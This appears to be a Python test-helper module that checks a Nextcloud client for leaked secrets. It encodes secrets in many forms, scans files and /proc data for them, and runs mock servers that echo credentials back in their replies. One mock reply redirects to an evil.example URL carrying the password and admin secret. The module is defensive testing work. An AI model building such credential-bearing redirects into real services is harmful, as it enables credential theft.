"""Secrets in all the shapes in which they may come out, and where to look for them.

Also the servers that bring them back: one repeats whatever it was sent, in one shape after the other, one in
broken headers.
"""

from __future__ import annotations

import base64
import html
import json
import socket
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Final
from urllib.parse import quote, quote_plus

from tests.contract.replay import HttpServer, Reply, Seen, ocs
from tests.unit.nc.raw_server import RawServer, http_answer, read_request
from tests.unit.nc.scripted_cloud import ABSENT, ROOT, STATUS, account_data, success

USERS: Final = ("admin", "root", "reconciler")
SECRET_FILES: Final = frozenset(
    {"billmgr.pem", "journal.key", "http-token", "db-password", "journal-password"}
)
"""What holds secrets because it is there for them."""


def list_shapes(secret: str) -> Iterator[bytes]:
    """A secret as texts, pages, addresses, JSON and headers would show it."""
    yield from (text.encode() for text in (secret, html.escape(secret), quote(secret), quote_plus(secret)))
    yield from (text[1:-1].encode() for text in (json.dumps(secret), json.dumps(secret, ensure_ascii=False)))
    yield repr(secret)[1:-1].encode()
    yield json.dumps(json.dumps(secret)[1:-1])[1:-1].encode()
    yield secret.encode().hex().encode()
    for text in (secret, *(f"{user}:{secret}" for user in USERS)):
        # Its end hangs on what follows.
        yield base64.b64encode(text.encode()).rstrip(b"=")[:-1]


def find_canaries(secrets: Mapping[str, str], places: Mapping[str, bytes]) -> list[str]:
    """Which secret came out where, and beside what."""
    found = []
    for name, secret in secrets.items():
        for shape in {*list_shapes(secret)}:
            for place, content in places.items():
                position = content.find(shape)
                if position >= 0:
                    found.append(f"{name} in {place}: {content[max(0, position - 80) : position + 80]!r}")
    return found


def read_files(folder: Path) -> dict[str, bytes]:
    """Every file below a folder but those that hold the secrets."""
    paths = [path for path in folder.rglob("*") if path.is_file() and path.name not in SECRET_FILES]
    return {str(path.relative_to(folder)): path.read_bytes() for path in paths}


def read_process(process_id: int) -> dict[str, bytes]:
    """What everybody on the machine, or its user, can see of a process."""
    names = ("cmdline", "environ", "comm", "status")
    return {f"/proc/{name}": Path(f"/proc/{process_id}/{name}").read_bytes() for name in names}


class EchoCloud(HttpServer):
    """A Nextcloud that answers every change with a failure that repeats the request."""

    def __init__(self) -> None:
        super().__init__(self.answer_any)
        self.echoes = 0

    @property
    def sent_passwords(self) -> list[str]:
        return [value for seen in self.requests for name, value in seen.form if name in {"password", "value"}]

    def answer_any(self, seen: Seen) -> Reply:
        root, product = ROOT["nextcloud"], "nextcloud"
        path = seen.path.removeprefix(root)
        if seen.method == "GET":
            if path == "/status.php":
                return Reply(200, json.dumps(STATUS[product]).encode())
            if path in {"/user", "/users/admin"}:
                return success(product, account_data(product, "admin"))
            if path == "/groups":
                return success(product, {"groups": ["admin", "basic"]})
            return success(product, {"users": []}) if path == "/users/details" else ABSENT[product]
        return self.echo(seen)

    def echo(self, seen: Seen) -> Reply:
        password = dict(seen.form).get("password", "")
        login = seen.headers["authorization"]
        admin = base64.b64decode(login.split()[1]).decode().partition(":")[2]
        everything = {"form": dict(seen.form), "headers": seen.headers, "admin": admin}
        target = f"http://evil.example/{quote(password)}/{quote(admin)}"
        both = f"{password} {admin}"
        shapes = [
            Reply(500, f"Fatal error: {both} {everything}".encode()),
            Reply(500, f"<html><title>{html.escape(both)} failed</title></html>".encode()),
            Reply(
                500,
                f"<html><body>pw={quote_plus(password)}&amp;admin={quote_plus(admin)}</body></html>".encode(),
            ),
            Reply(500, json.dumps(everything).encode()),
            Reply(500, json.dumps({"headers": seen.headers}).replace("/", "\\/").encode()),
            Reply(400, ocs(107, [], f"{both} is too weak")),
            Reply(400, ocs(101, [], f"login {login}")),
            Reply(400, ocs(999, everything, both)),
            Reply(401, f"wrong: {both}".encode(), {"WWW-Authenticate": f'Basic realm="{quote(both)}"'}),
            Reply(403, ocs(403, [], f"Password confirmation is required, not {both}")),
            Reply(302, both.encode(), {"Location": target}),
            Reply(303, both.encode(), {"Location": f"/{quote(both)}"}),
            Reply(200, f"{login} {both}".encode()),
            Reply(429, both.encode(), {"Retry-After": quote(both)}),
        ]
        self.echoes += 1
        return shapes[(self.echoes - 1) % len(shapes)]


def make_broken_cloud() -> RawServer:
    """A server that answers whoever logs in with what is no HTTP, and repeats how he logged in."""

    def talk(connection: socket.socket, number: int) -> None:
        request = read_request(connection)
        if b"/status.php " in request:
            connection.sendall(http_answer(json.dumps(STATUS["nextcloud"]).encode()))
            return
        head = b"HTTP/1.1 200 OK\r\n" if number % 2 else b""
        login = request.partition(b"Authorization: Basic ")[2].partition(b"\r\n")[0]
        connection.sendall(head + b"no header \xff" + login + base64.b64decode(login) + b"\r\n" + request)

    return RawServer(talk)
